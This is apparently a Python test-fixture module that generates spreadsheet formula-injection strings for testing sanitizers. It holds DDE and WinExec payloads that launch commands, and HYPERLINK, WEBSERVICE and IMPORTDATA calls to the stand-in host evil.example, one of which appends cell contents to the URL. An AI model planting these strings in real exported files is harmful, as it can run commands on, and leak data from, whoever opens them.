"""Five hundred texts that a spreadsheet would like to take for a formula, or a program for a call."""

from collections.abc import Iterator
from itertools import product

_CALLS = (
    *("1+1", "A1", "SUM(A1:A9)", "NOW()", "1/0", "#REF!", "TRUE", "2^3", "'Sheet1'!A1", "[1]Sheet1!A1"),
    *(
        'HYPERLINK("http://evil.example/"&A1,"点")',
        'WEBSERVICE("http://evil.example/")',
        'IMAGE("http://evil.example/i")',
    ),
    *("cmd|'/c calc'!A0", 'DDE("cmd","/c calc","x")', "MSEXCEL|'\\..\\cmd.exe /c calc'!''", "rundll32|'x'!A"),
    *('CALL("kernel32","WinExec","JC","calc")', 'EXEC("calc")', 'REGISTER.ID("x","y")', 'RTD("x",,"y")'),
    *('IMPORTXML("http://evil.example/","//a")', 'IMPORTDATA("http://evil.example/")', 'FILTERXML(A1,"//a")'),
    *('INDIRECT("A1")', "_xlfn.LET(a,1,a)", "LAMBDA(x,x)(1)", "{1,2}", "@A1", 'EVALUATE("1+1")'),
)
# What begins a formula in one program or another, bare, hidden or dressed up.
_BEGINNINGS = (
    *("=", "+", "-", "@", "=+", "=-", "+=", "-=", "@=", "==", "=@"),
    *("\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=", "\u200b=", "\ufeff="),
    *("＝", "＋", "－", "＠", "﹦", "⁼"),
    *("'=", '"=', "`=", ";=", ",=", "|=", "%=", "\\="),
)


def _made() -> Iterator[str]:
    yield from (f"{beginning}{call}" for beginning, call in product(_BEGINNINGS, _CALLS))
    yield from (
        "#N/A",
        "#DIV/0!",
        "#NAME?",
        "=",
        "+",
        "-",
        "@",
        "\t",
        "=\x00",
        "=" * 300,
        "{=1+1}",
        "\x01=1",
        "\ud800=1",
    )


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_made()))
